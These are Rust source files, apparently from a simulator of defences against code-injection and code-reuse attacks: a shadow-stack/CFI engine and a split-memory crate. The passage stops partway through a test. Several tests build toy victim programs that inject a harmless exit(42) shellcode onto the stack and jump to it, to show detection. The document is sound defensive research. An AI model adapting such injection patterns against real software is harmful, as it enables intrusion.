//! only bytes that were legitimately loaded, so neither the Algorithm-3
//! `#UD` detector nor the NX bit ever fires. This engine models the
//! hardware answer that grew out of that gap (Intel CET, and the
//! shadow-stack/CFI designs surveyed in the follow-on literature):
//!
//! * **Shadow stack** — every `call` pushes its return address onto a
//!   kernel-private per-process stack; every `ret` must pop a matching
//!   address. The match is *pop-until-found* (CET's behaviour for
//!   `longjmp`/exception unwinding): legitimate non-local exits skip
//!   frames downward, but a `ret` to an address that was never pushed —
//!   the pivot of every ROP chain — has no match anywhere and traps.
//! * **Coarse CFI** — indirect `call`/`jmp` targets must land inside a
//!   region that was mapped executable (the loader's code and library
//!   segments). A function pointer overwritten to point at the heap or
//!   stack traps at the transfer, covering the Wilander-style
//!   pointer-hijack scenarios the shadow stack alone would miss.
//!
//! The machine reports retired transfers as [`sm_machine::Trap::ControlFlow`]
//! events only when an engine opts in via `wants_cfi_events`, so the other
//! engines keep their exact cost model. Composition with split memory and
//! NX is [`ShadowCombinedEngine`], the full defense-in-depth stack.

use crate::combined::CombinedEngine;
use sm_kernel::engine::{CfiOutcome, FaultOutcome, ProtectionEngine, UdOutcome};
use sm_kernel::events::{Event, ResponseMode};
use sm_kernel::image::ExecImage;
use sm_kernel::kernel::System;
use sm_kernel::process::Pid;
use sm_machine::cpu::PageFaultInfo;
use sm_machine::pte::Frame;
use sm_machine::snapshot::{Reader, Writer};
use sm_machine::{CfiEvent, CfiKind};
use std::collections::BTreeMap;

/// Hard depth bound per process: past this the oldest entries are
/// discarded (deep recursion degrades gracefully instead of growing the
/// kernel-side stack without bound, matching a fixed-size hardware SSP
/// region).
const MAX_SHADOW_DEPTH: usize = 4096;

/// Counters for the shadow-stack/CFI engine.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ShadowStats {
    /// `call` transfers whose return address was pushed.
    pub calls_tracked: u64,
    /// `ret` transfers checked against the shadow stack.
    pub rets_checked: u64,
    /// Indirect `call`/`jmp` targets checked against the code map.
    pub indirects_checked: u64,
    /// `ret` to an address present deeper in the shadow stack: frames
    /// skipped by the pop-until-found rule (longjmp-style unwinding).
    pub frames_unwound: u64,
    /// `ret` to an address found nowhere in the shadow stack (attack).
    pub ret_mismatches: u64,
    /// Indirect transfers into non-code memory (attack).
    pub cfi_violations: u64,
    /// Trampoline addresses shadow-pushed for signal delivery.
    pub trampoline_pushes: u64,
}

impl ShadowStats {
    /// Total violations (both detector halves).
    pub fn detections(&self) -> u64 {
        self.ret_mismatches + self.cfi_violations
    }
}

/// The shadow-stack / coarse-CFI engine.
#[derive(Debug)]
pub struct ShadowStackEngine {
    /// Event counters.
    pub stats: ShadowStats,
    response: ResponseMode,
    /// Per-pid shadow stacks of pushed return addresses.
    stacks: BTreeMap<u32, Vec<u32>>,
    /// Per-pid executable regions `[start, end)`, recorded at map time.
    ranges: BTreeMap<u32, Vec<(u32, u32)>>,
}

impl ShadowStackEngine {
    /// Create the engine with the given response policy (break traps the
    /// violating transfer; observe/forensics log it and let it stand).
    pub fn new(response: ResponseMode) -> ShadowStackEngine {
        ShadowStackEngine {
            stats: ShadowStats::default(),
            response,
            stacks: BTreeMap::new(),
            ranges: BTreeMap::new(),
        }
    }

    fn in_code(&self, pid: Pid, target: u32) -> bool {
        self.ranges
            .get(&pid.0)
            .is_some_and(|rs| rs.iter().any(|&(s, e)| s <= target && target < e))
    }

    fn push(&mut self, pid: Pid, link: u32) {
        let stack = self.stacks.entry(pid.0).or_default();
        if stack.len() >= MAX_SHADOW_DEPTH {
            stack.remove(0);
        }
        stack.push(link);
    }

    /// Record the violation and translate the response policy into a
    /// kernel outcome.
    fn violation(&mut self, sys: &mut System, pid: Pid, eip: u32) -> CfiOutcome {
        let mode = self.response;
        sys.log(Event::AttackDetected {
            pid,
            eip,
            mode,
            shellcode: Vec::new(),
        });
        let trace_mode = match mode {
            ResponseMode::Break => sm_trace::ResponseKind::Break,
            ResponseMode::Observe => sm_trace::ResponseKind::Observe,
            ResponseMode::Forensics => sm_trace::ResponseKind::Forensics,
        };
        sys.trace(sm_trace::mask::DETECT, || sm_trace::TraceEvent::Detection {
            pid: pid.0,
            eip,
            mode: trace_mode,
        });
        match mode {
            ResponseMode::Break => CfiOutcome::Terminate,
            ResponseMode::Observe | ResponseMode::Forensics => CfiOutcome::Logged,
        }
    }
}

impl ProtectionEngine for ShadowStackEngine {
    fn name(&self) -> &'static str {
        "shadow-stack"
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn wants_cfi_events(&self) -> bool {
        true
    }

    fn on_region_mapped(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        // Only executable regions are legitimate indirect-transfer
        // targets; data, heap and stack mappings stay off the map.
        let executable = sys
            .procs
            .get(&pid.0)
            .and_then(|p| p.aspace.find_vma(start))
            .is_some_and(|v| v.executable());
        if executable {
            self.ranges.entry(pid.0).or_default().push((start, end));
        }
    }

    fn on_control_flow(&mut self, sys: &mut System, pid: Pid, ev: CfiEvent) -> CfiOutcome {
        match ev.kind {
            CfiKind::Call => {
                self.stats.calls_tracked += 1;
                self.push(pid, ev.link);
                CfiOutcome::Allow
            }
            CfiKind::IndirectCall => {
                self.stats.calls_tracked += 1;
                self.stats.indirects_checked += 1;
                if !self.in_code(pid, ev.target) {
                    self.stats.cfi_violations += 1;
                    return self.violation(sys, pid, ev.target);
                }
                self.push(pid, ev.link);
                CfiOutcome::Allow
            }
            CfiKind::IndirectJmp => {
                self.stats.indirects_checked += 1;
                if !self.in_code(pid, ev.target) {
                    self.stats.cfi_violations += 1;
                    return self.violation(sys, pid, ev.target);
                }
                CfiOutcome::Allow
            }
            CfiKind::Ret => {
                self.stats.rets_checked += 1;
                let stack = self.stacks.entry(pid.0).or_default();
                // Pop-until-found: a match deeper down unwinds the skipped
                // frames (longjmp); no match anywhere leaves the stack
                // untouched and traps, so observe mode keeps a coherent
                // stack while the attack proceeds under watch.
                match stack.iter().rposition(|&a| a == ev.target) {
                    Some(idx) => {
                        let skipped = stack.len() - idx - 1;
                        self.stats.frames_unwound += skipped as u64;
                        stack.truncate(idx);
                        CfiOutcome::Allow
                    }
                    None => {
                        self.stats.ret_mismatches += 1;
                        self.violation(sys, pid, ev.target)
                    }
                }
            }
        }
    }

    fn on_fork(&mut self, _sys: &mut System, parent: Pid, child: Pid) {
        let stack = self.stacks.get(&parent.0).cloned().unwrap_or_default();
        self.stacks.insert(child.0, stack);
        let ranges = self.ranges.get(&parent.0).cloned().unwrap_or_default();
        self.ranges.insert(child.0, ranges);
    }

    fn on_unmap(&mut self, _sys: &mut System, pid: Pid, start: u32, end: u32) {
        if let Some(rs) = self.ranges.get_mut(&pid.0) {
            rs.retain(|&(s, e)| e <= start || end <= s);
        }
    }

    fn on_teardown(&mut self, _sys: &mut System, pid: Pid) {
        self.stacks.remove(&pid.0);
        self.ranges.remove(&pid.0);
    }

    fn write_user_code(
        &mut self,
        sys: &mut System,
        pid: Pid,
        vaddr: u32,
        bytes: &[u8],
    ) -> Result<(), PageFaultInfo> {
        sys.machine.copy_to_user(vaddr, bytes)?;
        // Signal delivery: the kernel seeds the handler frame so the
        // handler's `ret` lands on this trampoline — an address no `call`
        // ever pushed. CET's kernel does the matching shadow-stack push at
        // delivery; model it, or every signal return would be a false
        // positive.
        self.stats.trampoline_pushes += 1;
        self.push(pid, vaddr);
        Ok(())
    }

    fn snapshot_state(&self) -> Vec<u8> {
        let mut w = Writer::new();
        w.u64(self.stacks.len() as u64);
        for (&pid, stack) in &self.stacks {
            w.u32(pid);
            w.u64(stack.len() as u64);
            for &a in stack {
                w.u32(a);
            }
        }
        w.u64(self.ranges.len() as u64);
        for (&pid, ranges) in &self.ranges {
            w.u32(pid);
            w.u64(ranges.len() as u64);
            for &(s, e) in ranges {
                w.u32(s);
                w.u32(e);
            }
        }
        for v in [
            self.stats.calls_tracked,
            self.stats.rets_checked,
            self.stats.indirects_checked,
            self.stats.frames_unwound,
            self.stats.ret_mismatches,
            self.stats.cfi_violations,
            self.stats.trampoline_pushes,
        ] {
            w.u64(v);
        }
        w.into_bytes()
    }

    fn restore_state(&mut self, bytes: &[u8]) -> Result<(), String> {
        let s = |e: sm_machine::snapshot::SnapshotError| e.to_string();
        let mut r = Reader::new(bytes);
        let nstacks = r.count(1 << 16).map_err(s)?;
        let mut stacks = BTreeMap::new();
        for _ in 0..nstacks {
            let pid = r.u32().map_err(s)?;
            let depth = r.count(MAX_SHADOW_DEPTH).map_err(s)?;
            let mut stack = Vec::with_capacity(depth);
            for _ in 0..depth {
                stack.push(r.u32().map_err(s)?);
            }
            if stacks.insert(pid, stack).is_some() {
                return Err("duplicate shadow stack pid".into());
            }
        }
        let nranges = r.count(1 << 16).map_err(s)?;
        let mut ranges = BTreeMap::new();
        for _ in 0..nranges {
            let pid = r.u32().map_err(s)?;
            let n = r.count(1 << 16).map_err(s)?;
            let mut rs = Vec::with_capacity(n);
            for _ in 0..n {
                let start = r.u32().map_err(s)?;
                let end = r.u32().map_err(s)?;
                rs.push((start, end));
            }
            if ranges.insert(pid, rs).is_some() {
                return Err("duplicate shadow range pid".into());
            }
        }
        let stats = ShadowStats {
            calls_tracked: r.u64().map_err(s)?,
            rets_checked: r.u64().map_err(s)?,
            indirects_checked: r.u64().map_err(s)?,
            frames_unwound: r.u64().map_err(s)?,
            ret_mismatches: r.u64().map_err(s)?,
            cfi_violations: r.u64().map_err(s)?,
            trampoline_pushes: r.u64().map_err(s)?,
        };
        if !r.is_done() {
            return Err("trailing bytes in shadow-stack engine state".into());
        }
        self.stacks = stacks;
        self.ranges = ranges;
        self.stats = stats;
        Ok(())
    }
}

/// Defense in depth: shadow-stack/CFI over the combined
/// split-memory + execute-disable engine. Injection is caught by the
/// inner engines; code reuse by the shadow half.
#[derive(Debug)]
pub struct ShadowCombinedEngine {
    /// The shadow-stack/CFI half.
    pub shadow: ShadowStackEngine,
    /// The split-memory + NX half.
    pub inner: CombinedEngine,
}

impl ShadowCombinedEngine {
    /// Build the full stack with one response policy across all three
    /// detectors.
    pub fn new(response: ResponseMode) -> ShadowCombinedEngine {
        ShadowCombinedEngine {
            shadow: ShadowStackEngine::new(response),
            inner: CombinedEngine::new(response),
        }
    }
}

impl ProtectionEngine for ShadowCombinedEngine {
    fn name(&self) -> &'static str {
        "shadow-stack+split-memory+execute-disable"
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn wants_cfi_events(&self) -> bool {
        true
    }

    fn on_region_mapped(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        self.shadow.on_region_mapped(sys, pid, start, end);
        self.inner.on_region_mapped(sys, pid, start, end);
    }

    fn on_page_mapped(&mut self, sys: &mut System, pid: Pid, vaddr: u32) {
        self.inner.on_page_mapped(sys, pid, vaddr);
    }

    fn on_protection_fault(
        &mut self,
        sys: &mut System,
        pid: Pid,
        pf: PageFaultInfo,
    ) -> FaultOutcome {
        self.inner.on_protection_fault(sys, pid, pf)
    }

    fn on_debug_trap(&mut self, sys: &mut System, pid: Pid) -> bool {
        self.inner.on_debug_trap(sys, pid)
    }

    fn on_invalid_opcode(&mut self, sys: &mut System, pid: Pid, eip: u32, opcode: u8) -> UdOutcome {
        self.inner.on_invalid_opcode(sys, pid, eip, opcode)
    }

    fn on_control_flow(&mut self, sys: &mut System, pid: Pid, ev: CfiEvent) -> CfiOutcome {
        self.shadow.on_control_flow(sys, pid, ev)
    }

    fn on_cow_copied(&mut self, sys: &mut System, pid: Pid, vaddr: u32, new_frame: Frame) {
        self.inner.on_cow_copied(sys, pid, vaddr, new_frame);
    }

    fn on_fork(&mut self, sys: &mut System, parent: Pid, child: Pid) {
        self.shadow.on_fork(sys, parent, child);
        self.inner.on_fork(sys, parent, child);
    }

    fn on_unmap(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        self.shadow.on_unmap(sys, pid, start, end);
        self.inner.on_unmap(sys, pid, start, end);
    }

    fn on_teardown(&mut self, sys: &mut System, pid: Pid) {
        self.shadow.on_teardown(sys, pid);
        self.inner.on_teardown(sys, pid);
    }

    fn verify_library(
        &mut self,
        sys: &mut System,
        pid: Pid,
        image: &ExecImage,
    ) -> Result<(), String> {
        self.inner.verify_library(sys, pid, image)
    }

    fn write_user_code(
        &mut self,
        sys: &mut System,
        pid: Pid,
        vaddr: u32,
        bytes: &[u8],
    ) -> Result<(), PageFaultInfo> {
        // The inner engine performs the actual (split-aware) write and NX
        // exemption; the shadow half only needs its trampoline push.
        self.inner.write_user_code(sys, pid, vaddr, bytes)?;
        self.shadow.stats.trampoline_pushes += 1;
        self.shadow.push(pid, vaddr);
        Ok(())
    }

    fn snapshot_state(&self) -> Vec<u8> {
        let mut w = Writer::new();
        w.bytes(&self.shadow.snapshot_state());
        w.bytes(&self.inner.snapshot_state());
        w.into_bytes()
    }

    fn restore_state(&mut self, bytes: &[u8]) -> Result<(), String> {
        let s = |e: sm_machine::snapshot::SnapshotError| e.to_string();
        let mut r = Reader::new(bytes);
        let shadow = r.bytes().map_err(s)?;
        let inner = r.bytes().map_err(s)?;
        if !r.is_done() {
            return Err("trailing bytes in shadow-combined engine state".into());
        }
        self.shadow.restore_state(&shadow)?;
        self.inner.restore_state(&inner)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(kind: CfiKind, target: u32, link: u32) -> CfiEvent {
        CfiEvent { kind, target, link }
    }

    fn sys() -> System {
        sm_kernel::Kernel::with_engine(Box::new(sm_kernel::engine::NullEngine)).sys
    }

    #[test]
    fn balanced_calls_and_rets_pass() {
        let mut e = ShadowStackEngine::new(ResponseMode::Break);
        let mut s = sys();
        let pid = Pid(1);
        assert_eq!(
            e.on_control_flow(&mut s, pid, ev(CfiKind::Call, 0x2000, 0x1005)),
            CfiOutcome::Allow
        );
        assert_eq!(
            e.on_control_flow(&mut s, pid, ev(CfiKind::Ret, 0x1005, 0x1005)),
            CfiOutcome::Allow
        );
        assert_eq!(e.stats.detections(), 0);
    }

    #[test]
    fn ret_to_unpushed_address_traps() {
        let mut e = ShadowStackEngine::new(ResponseMode::Break);
        let mut s = sys();
        let pid = Pid(1);
        e.on_control_flow(&mut s, pid, ev(CfiKind::Call, 0x2000, 0x1005));
        assert_eq!(
            e.on_control_flow(&mut s, pid, ev(CfiKind::Ret, 0xBFFF_F000, 0xBFFF_F000)),
            CfiOutcome::Terminate
        );
        assert_eq!(e.stats.ret_mismatches, 1);
        // The stack survives the mismatch (nothing was popped) so the
        // legitimate frame can still unwind.
        assert_eq!(
            e.on_control_flow(&mut s, pid, ev(CfiKind::Ret, 0x1005, 0x1005)),
            CfiOutcome::Allow
        );
    }

    #[test]
    fn longjmp_style_unwind_is_tolerated() {
        let mut e = ShadowStackEngine::new(ResponseMode::Break);
        let mut s = sys();
        let pid = Pid(1);
        for link in [0x1005, 0x1105, 0x1205] {
            e.on_control_flow(&mut s, pid, ev(CfiKind::Call, 0x2000, link));
        }
        // Non-local exit straight back to the outermost frame.
        assert_eq!(
            e.on_control_flow(&mut s, pid, ev(CfiKind::Ret, 0x1005, 0x1005)),
            CfiOutcome::Allow
        );
        assert_eq!(e.stats.frames_unwound, 2);
        assert_eq!(e.stats.detections(), 0);
    }

    #[test]
    fn indirect_transfer_outside_code_traps() {
        let mut e = ShadowStackEngine::new(ResponseMode::Break);
        let mut s = sys();
        let pid = Pid(1);
        e.ranges.insert(pid.0, vec![(0x1000, 0x3000)]);
        assert_eq!(
            e.on_control_flow(&mut s, pid, ev(CfiKind::IndirectCall, 0x2000, 0x1005)),
            CfiOutcome::Allow
        );
        assert_eq!(
            e.on_control_flow(&mut s, pid, ev(CfiKind::IndirectJmp, 0x8000_0000, 0)),
            CfiOutcome::Terminate
        );
        assert_eq!(e.stats.cfi_violations, 1);
    }

    #[test]
    fn observe_mode_logs_and_allows() {
        let mut e = ShadowStackEngine::new(ResponseMode::Observe);
        let mut s = sys();
        let pid = Pid(1);
        assert_eq!(
            e.on_control_flow(&mut s, pid, ev(CfiKind::Ret, 0xDEAD_0000, 0xDEAD_0000)),
            CfiOutcome::Logged
        );
        assert_eq!(e.stats.ret_mismatches, 1);
        assert_eq!(
            s.events
                .iter()
                .filter(|e| matches!(e, Event::AttackDetected { .. }))
                .count(),
            1
        );
    }

    #[test]
    fn snapshot_roundtrips_stacks_ranges_and_stats() {
        let mut e = ShadowStackEngine::new(ResponseMode::Break);
        let mut s = sys();
        let pid = Pid(7);
        e.ranges.insert(pid.0, vec![(0x1000, 0x3000)]);
        e.on_control_flow(&mut s, pid, ev(CfiKind::Call, 0x2000, 0x1005));
        e.on_control_flow(&mut s, pid, ev(CfiKind::IndirectCall, 0x2100, 0x1105));
        let bytes = e.snapshot_state();
        let mut fresh = ShadowStackEngine::new(ResponseMode::Break);
        fresh.restore_state(&bytes).unwrap();
        assert_eq!(fresh.stacks, e.stacks);
        assert_eq!(fresh.ranges, e.ranges);
        assert_eq!(fresh.stats, e.stats);
        // Canonical bytes: re-serializing the restored engine is identical.
        assert_eq!(fresh.snapshot_state(), bytes);
    }

    #[test]
    fn teardown_and_fork_track_process_lifetimes() {
        let mut e = ShadowStackEngine::new(ResponseMode::Break);
        let mut s = sys();
        let (parent, child) = (Pid(1), Pid(2));
        e.ranges.insert(parent.0, vec![(0x1000, 0x2000)]);
        e.on_control_flow(&mut s, parent, ev(CfiKind::Call, 0x1800, 0x1005));
        e.on_fork(&mut s, parent, child);
        assert_eq!(e.stacks[&child.0], e.stacks[&parent.0]);
        e.on_teardown(&mut s, parent);
        assert!(!e.stacks.contains_key(&parent.0));
        assert!(e.stacks.contains_key(&child.0));
    }
}
