//! Split memory: a virtual Harvard architecture that prevents code
//! injection attacks (Riley, Jiang & Xu — DSN'07 / IEEE TDSC 7(4), 2010).
//!
//! This crate is the paper's contribution, implemented against the
//! `sm-machine` simulator and the `sm-kernel` mini-OS:
//!
//! * [`engine::SplitMemEngine`] — the stand-alone software-only protection:
//!   every protected virtual page is backed by *two* physical frames, and
//!   the x86 split instruction/data TLBs are deliberately desynchronised so
//!   instruction fetches and data accesses resolve to different frames.
//!   Injected bytes land on the data frame and can never be fetched.
//! * Response modes ([`sm_kernel::events::ResponseMode`]): **break**
//!   (process crashes on the empty code frame), **observe** (log, lock the
//!   page to the data frame, let the attack run — honeypot style),
//!   **forensics** (dump EIP + shellcode, optionally substitute forensic
//!   shellcode).
//! * [`nx::NxEngine`] — the execute-disable-bit baseline (DEP/PAGEEXEC),
//!   including its mixed-page blind spot.
//! * [`combined::CombinedEngine`] — NX for clean pages + splitting for
//!   mixed pages or a configurable random fraction (the paper's Fig. 9).
//! * [`verify::Verifier`] — DigSig-style load-time library signing over an
//!   in-crate SHA-256 ([`sha256`]).
//! * [`forensics::fingerprint`] — §4.5.3's "shellcode analysis" and
//!   "attack fingerprinting based on memory contents": digest, sled
//!   length, disassembly, syscall extraction, behavioural class.
//!
//! # Example: foiling an injection
//!
//! ```
//! use sm_core::engine::{SplitMemConfig, SplitMemEngine};
//! use sm_kernel::events::Event;
//! use sm_kernel::userlib::ProgramBuilder;
//! use sm_kernel::Kernel;
//!
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! // A program that jumps straight into bytes living in its data segment
//! // (the simplest possible "injected code").
//! let prog = ProgramBuilder::new("/bin/victim")
//!     .code("_start: mov eax, payload\n jmp eax")
//!     .data("payload: .byte 0xbb, 0x2a, 0, 0, 0, 0xb8, 1, 0, 0, 0, 0xcd, 0x80")
//!     .build()?;
//! let mut k = Kernel::with_engine(Box::new(SplitMemEngine::new(SplitMemConfig::default())));
//! let pid = k.spawn(&prog.image)?;
//! k.run(10_000_000);
//! // The payload (exit(42)) never ran: the fetch was routed to the empty
//! // code frame and the process crashed instead.
//! assert_ne!(k.sys.proc(pid).exit_code, Some(42));
//! assert!(k.sys.events.iter().any(|e| matches!(e, Event::AttackDetected { .. })));
//! # Ok(())
//! # }
//! ```

pub mod combined;
pub mod engine;
pub mod forensics;
pub mod invariants;
pub mod nx;
pub mod setup;
pub mod shadow;
pub mod split;
pub mod verify;

pub use sm_machine::sha256;

pub use combined::CombinedEngine;
pub use engine::{SplitMemConfig, SplitMemEngine};
pub use nx::NxEngine;
pub use setup::Protection;
pub use shadow::{ShadowCombinedEngine, ShadowStackEngine, ShadowStats};
pub use split::{SplitPolicy, SplitStats};
pub use verify::Verifier;

#[cfg(test)]
mod tests {
    use super::*;
    use sm_kernel::engine::NullEngine;
    use sm_kernel::events::{Event, ResponseMode};
    use sm_kernel::kernel::{Kernel, KernelConfig};
    use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
    use sm_kernel::Pid;
    use sm_machine::MachineConfig;

    /// exit(42) shellcode — x86-identical encoding (paper §6.1.3 shape).
    const SHELLCODE_EXIT42: &str =
        ".byte 0xbb, 0x2a, 0x00, 0x00, 0x00, 0xb8, 0x01, 0x00, 0x00, 0x00, 0xcd, 0x80";

    /// A victim that jumps directly into bytes stored in its data segment.
    fn jump_to_data_victim() -> BuiltProgram {
        ProgramBuilder::new("/bin/victim")
            .code("_start:\n mov eax, payload\n jmp eax")
            .data(&format!("payload: {SHELLCODE_EXIT42}"))
            .build()
            .unwrap()
    }

    /// A victim that *copies* its payload to a stack buffer at runtime and
    /// jumps there — a true injection: the bytes arrive as data writes.
    fn inject_to_stack_victim() -> BuiltProgram {
        ProgramBuilder::new("/bin/victim2")
            .code(
                "_start:
                    sub esp, 64
                    mov edi, esp
                    mov esi, payload
                    mov ecx, 12
                    call memcpy
                    mov eax, esp
                    jmp eax",
            )
            .data(&format!("payload: {SHELLCODE_EXIT42}"))
            .build()
            .unwrap()
    }

    fn run_with(
        engine: Box<dyn sm_kernel::engine::ProtectionEngine>,
        prog: &BuiltProgram,
    ) -> (Kernel, Pid) {
        let mut k = Kernel::with_engine(engine);
        let pid = k.spawn(&prog.image).expect("spawn");
        k.run(20_000_000);
        (k, pid)
    }

    #[test]
    fn unprotected_attack_succeeds() {
        for prog in [jump_to_data_victim(), inject_to_stack_victim()] {
            let (k, pid) = run_with(Box::new(NullEngine), &prog);
            assert_eq!(k.sys.proc(pid).exit_code, Some(42), "{}", prog.image.name);
        }
    }

    #[test]
    fn split_memory_foils_both_attacks_in_break_mode() {
        for prog in [jump_to_data_victim(), inject_to_stack_victim()] {
            let (k, pid) = run_with(
                Box::new(SplitMemEngine::stand_alone(ResponseMode::Break)),
                &prog,
            );
            assert_ne!(k.sys.proc(pid).exit_code, Some(42), "{}", prog.image.name);
            let det = k.sys.events.first_detection();
            assert!(det.is_some(), "no detection for {}", prog.image.name);
        }
    }

    #[test]
    fn benign_programs_run_unchanged_under_split_memory() {
        let prog = ProgramBuilder::new("/bin/work")
            .code(
                "_start:
                    mov ecx, 200
                    xor eax, eax
                loop_top:
                    add eax, ecx
                    dec ecx
                    jnz loop_top
                    mov ebx, eax     ; 20100 mod 256 = 132... use compare
                    cmp eax, 20100
                    je good
                    mov ebx, 1
                    call exit
                good:
                    mov esi, okmsg
                    call print
                    mov ebx, 0
                    call exit",
            )
            .data("okmsg: .asciz \"sum ok\"")
            .build()
            .unwrap();
        let (k, pid) = run_with(
            Box::new(SplitMemEngine::stand_alone(ResponseMode::Break)),
            &prog,
        );
        assert_eq!(k.sys.proc(pid).exit_code, Some(0));
        assert_eq!(k.sys.proc(pid).output_string(), "sum ok");
    }

    #[test]
    fn observe_mode_logs_then_lets_the_attack_run() {
        let prog = inject_to_stack_victim();
        let (k, pid) = run_with(
            Box::new(SplitMemEngine::stand_alone(ResponseMode::Observe)),
            &prog,
        );
        // Attack proceeds to completion (exit 42)...
        assert_eq!(k.sys.proc(pid).exit_code, Some(42));
        // ...but was detected first, with the payload captured.
        match k.sys.events.first_detection() {
            Some(Event::AttackDetected {
                mode, shellcode, ..
            }) => {
                assert_eq!(*mode, ResponseMode::Observe);
                assert_eq!(&shellcode[..2], &[0xbb, 0x2a]);
            }
            other => panic!("expected detection, got {other:?}"),
        }
    }

    #[test]
    fn forensics_mode_dumps_shellcode_and_substitutes_payload() {
        let prog = inject_to_stack_victim();
        let mut cfg = SplitMemConfig {
            response: ResponseMode::Forensics,
            ..SplitMemConfig::default()
        };
        // The paper's forensic shellcode: exit(0).
        cfg.forensic_shellcode = Some(b"\xbb\x00\x00\x00\x00\xb8\x01\x00\x00\x00\xcd\x80".to_vec());
        let (k, pid) = run_with(Box::new(SplitMemEngine::new(cfg)), &prog);
        // Process exits *gracefully* with 0 — the forensic payload ran
        // instead of the attacker's exit(42).
        assert_eq!(k.sys.proc(pid).exit_code, Some(0));
        match k.sys.events.first_detection() {
            Some(Event::AttackDetected { shellcode, .. }) => {
                assert_eq!(
                    &shellcode[..12],
                    b"\xbb\x2a\x00\x00\x00\xb8\x01\x00\x00\x00\xcd\x80"
                );
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn forensics_without_payload_terminates_after_dump() {
        let prog = jump_to_data_victim();
        let cfg = SplitMemConfig {
            response: ResponseMode::Forensics,
            ..SplitMemConfig::default()
        };
        let (k, pid) = run_with(Box::new(SplitMemEngine::new(cfg)), &prog);
        assert_ne!(k.sys.proc(pid).exit_code, Some(42));
        assert!(k.sys.events.first_detection().is_some());
    }

    #[test]
    fn recovery_handler_gets_control_in_break_mode() {
        // The paper's proposed recovery mode (§4.5): the application
        // registers a callback; on detection the kernel transfers there.
        let prog = ProgramBuilder::new("/bin/recover")
            .code(
                "_start:
                    mov eax, SYS_REGISTER_RECOVERY
                    mov ebx, recovered
                    int 0x80
                    mov eax, payload
                    jmp eax
                recovered:
                    mov esi, msg
                    call print
                    mov ebx, 7
                    call exit",
            )
            .data(&format!(
                "payload: {SHELLCODE_EXIT42}\nmsg: .asciz \"recovered\""
            ))
            .build()
            .unwrap();
        let (k, pid) = run_with(
            Box::new(SplitMemEngine::stand_alone(ResponseMode::Break)),
            &prog,
        );
        assert_eq!(k.sys.proc(pid).exit_code, Some(7));
        assert_eq!(k.sys.proc(pid).output_string(), "recovered");
        assert!(k
            .sys
            .events
            .iter()
            .any(|e| matches!(e, Event::RecoveryEntered { .. })));
    }

    #[test]
    fn nx_engine_blocks_plain_injection() {
        let prog = inject_to_stack_victim();
        let mut k = Kernel::new(
            MachineConfig {
                nx_enabled: true,
                ..MachineConfig::default()
            },
            KernelConfig::default(),
            Box::new(NxEngine::new()),
        );
        let pid = k.spawn(&prog.image).unwrap();
        k.run(20_000_000);
        assert_ne!(k.sys.proc(pid).exit_code, Some(42));
        assert!(k.sys.events.first_detection().is_some());
    }

    #[test]
    fn nx_engine_cannot_protect_mixed_pages_but_split_can() {
        // The paper's motivating gap (§2): code and data on one page.
        let mixed = ProgramBuilder::new("/bin/jitlike")
            .mixed_segment()
            .code(
                "_start:
                    mov eax, payload
                    jmp eax
                payload: .byte 0xbb, 0x2a, 0x00, 0x00, 0x00, 0xb8, 0x01, 0x00, 0x00, 0x00, 0xcd, 0x80",
            )
            .build()
            .unwrap();
        // NX: the page must stay executable → attack succeeds.
        let mut k = Kernel::new(
            MachineConfig {
                nx_enabled: true,
                ..MachineConfig::default()
            },
            KernelConfig::default(),
            Box::new(NxEngine::new()),
        );
        let pid = k.spawn(&mixed.image).unwrap();
        k.run(20_000_000);
        assert_eq!(
            k.sys.proc(pid).exit_code,
            Some(42),
            "NX unexpectedly stopped a mixed-page attack"
        );
        // Split memory: data on the page is unfetchable → wait: the payload
        // here was *loaded* as part of the image, so it legitimately lives
        // on the code frame too and still runs. Inject at runtime instead.
        let mixed_inject = ProgramBuilder::new("/bin/jitlike2")
            .mixed_segment()
            .code(
                "_start:
                    sub esp, 64
                    mov edi, buf
                    mov esi, payload
                    mov ecx, 12
                    call memcpy
                    mov eax, buf
                    jmp eax
                payload: .byte 0xbb, 0x2a, 0x00, 0x00, 0x00, 0xb8, 0x01, 0x00, 0x00, 0x00, 0xcd, 0x80
                buf: .space 16",
            )
            .build()
            .unwrap();
        let (k, pid) = run_with(
            Box::new(SplitMemEngine::stand_alone(ResponseMode::Break)),
            &mixed_inject,
        );
        assert_ne!(k.sys.proc(pid).exit_code, Some(42));
        // And under NX the same runtime injection on the mixed page works:
        let mut k = Kernel::new(
            MachineConfig {
                nx_enabled: true,
                ..MachineConfig::default()
            },
            KernelConfig::default(),
            Box::new(NxEngine::new()),
        );
        let pid = k.spawn(&mixed_inject.image).unwrap();
        k.run(20_000_000);
        assert_eq!(k.sys.proc(pid).exit_code, Some(42));
    }

    #[test]
    fn combined_engine_splits_only_mixed_pages() {
        let clean = ProgramBuilder::new("/bin/clean")
            .code("_start: mov ebx, 0\n call exit")
            .data("x: .word 1")
            .build()
            .unwrap();
        let mut k = Kernel::new(
            MachineConfig {
                nx_enabled: true,
                ..MachineConfig::default()
            },
            KernelConfig::default(),
            Box::new(CombinedEngine::new(ResponseMode::Break)),
        );
        let pid = k.spawn(&clean.image).unwrap();
        // Nothing mixed → nothing split, but data pages are NX-marked.
        let engine = k
            .engine
            .as_any()
            .downcast_ref::<CombinedEngine>()
            .expect("combined engine");
        assert!(engine.split.table(pid).is_none_or(|t| t.is_empty()));
        assert!(engine.nx.stats.pages_marked > 0);
        k.run(10_000_000);
        assert_eq!(k.sys.proc(pid).exit_code, Some(0));
    }

    #[test]
    fn library_verification_rejects_tampering() {
        let verifier = Verifier::new(b"system-key".to_vec());
        // A signed library.
        let mut lib = ProgramBuilder::new("/lib/libok.so")
            .without_stdlib()
            .code("libfn: ret")
            .build()
            .unwrap()
            .image;
        lib.segments[0].vaddr = 0x4000_0000;
        verifier.sign(&mut lib);
        // A tampered copy.
        let mut evil = lib.clone();
        evil.segments[0].data[0] = 0xCC;

        let cfg = SplitMemConfig {
            verifier: Some(verifier),
            ..SplitMemConfig::default()
        };
